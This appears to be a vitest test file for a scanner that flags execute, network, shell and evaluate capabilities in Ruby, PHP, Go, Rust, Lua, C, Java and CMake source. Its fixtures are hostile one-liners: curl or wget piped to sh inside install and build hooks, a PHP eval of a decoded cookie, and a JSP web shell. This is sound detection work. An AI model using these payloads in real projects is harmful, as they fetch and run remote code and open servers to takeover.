import { describe, expect, it } from 'vitest'
import type { Capability } from '../../capability.ts'
import { source } from './index.ts'
import { unreadLanguage } from './languages.ts'

function read(path: string, text: string) {
  const bytes = Buffer.from(text)
  expect(source.recognise({ path, size: bytes.length, bytes })).toBeGreaterThan(0)
  return source.read({ path, bytes }).units
}

describe('source code of other languages', () => {
  it.each<[path: string, line: string, ...can: Capability[]]>([
    ['ext/extconf.rb', 'eval URI.open("https://cdn.invalid/i").read', 'evaluate', 'network'],
    ['a.rb', 'system("curl https://cdn.invalid/i | sh")', 'execute', 'network', 'shell', 'evaluate'],
    ['a.php', 'eval(base64_decode($_COOKIE["x"]));', 'evaluate', 'decode', 'network'],
    ['a.go', 'exec.Command("/bin/sh", "-c", "wget -O - https://cdn.invalid/i | sh").Start()', 'execute', 'network', 'evaluate'],
    ['build.rs', 'let _ = Command::new("sh").arg("-c").arg("curl https://cdn.invalid/i | sh").status();', 'execute', 'network'],
    ['a.lua', 'os.execute("id")', 'execute', 'shell'],
    ['a.pl', 'system("curl https://cdn.invalid/i");', 'execute', 'network'],
    ['a.c', 'int x = system("id");', 'shell'],
    ['A.java', 'Runtime.getRuntime().exec(request.getParameter("c"));', 'execute', 'network'],
    ['a.jsp', '<% Runtime.getRuntime().exec(request.getParameter("c")); %>', 'execute', 'network'],
    ['CMakeLists.txt', 'execute_process(COMMAND sh -c "curl https://cdn.invalid/i | sh")', 'execute', 'network'],
    ['a.cmake', 'file(DOWNLOAD https://cdn.invalid/i i)', 'network'],
    ['build.gradle', '"sh -c id".execute()', 'execute'],
    ['tool', '#!/usr/bin/env ruby\nsystem("id")', 'execute'],
  ])('%s: %s', (path, line, ...can) => {
    expect(read(path, line).flatMap(({ capabilities }) => capabilities)).toEqual(expect.arrayContaining(can))
  })

  it.each([
    ['a.rb', '# system("id")\nx = 1\n', ['x = 1']],
    ['a.c', '/* system("id");\n */ int a; // popen("b")\n#include <stdio.h>\n', ['int a;', '#include <stdio.h>']],
    ['a.rs', "#[derive(Debug)]\nfn f<'a>(x: &'a str) {}\n", ['#[derive(Debug)]', "fn f<'a>(x: &'a str) {}"]],
    ['a.php', '<?php # eval(1)\n$a = "https://b.invalid/"; // c\n', ['<?php', '$a = "https://b.invalid/";']],
    ['a.lua', '--[[ os.execute("a")\n]] local b = 1 -- c\n', ['local b = 1']],
    ['CMakeLists.txt', 'add_library(a\n  b.c # c\n  d.c)\n', ['add_library(a b.c d.c)']],
    ['a.go', 'func f() {\n\n\treturn\n}\n', ['func f() {']],
  ])('%s: comments, white space and what only holds it together do not count', (path, text, says) => {
    expect(read(path, text).map((unit) => unit.says)).toEqual(says)
  })

  it('gives the same ids wherever the lines lie', () => {
    const [one, other] = ['a.go', 'b/c.go'].map((path) => read(path, 'x := 1\ny := 2\n').map(({ id }) => id))
    expect(one).toEqual(other)
  })

  it('does not claim bytes, or what other readers know', () => {
    for (const path of ['a.js', 'a.py', 'a.sh', 'README.md']) expect(source.recognise({ path, size: 3, bytes: Buffer.from('a\nb') })).toBe(0)
    expect(source.recognise({ path: 'a.rb', size: 3, bytes: Buffer.from('a\0b') })).toBe(0)
  })

  it('takes any bytes in time that grows with their number', () => {
    for (const piece of ['`', "'", '"\\', '/*', '(', '--[[', '<%', '\\\n']) {
      const started = performance.now()
      for (const path of ['a.rb', 'a.php', 'a.c', 'a.lua', 'a.jsp']) source.read({ path, bytes: Buffer.from(piece.repeat(100_000)) })
      expect(performance.now() - started).toBeLessThan(5000)
    }
  })

  it('leaves languages to be said unread that it does not know', () => {
    expect(unreadLanguage('a/b.hs')).toBe('Haskell')
    expect(unreadLanguage('a/b.rb')).toBeUndefined()
  })
})
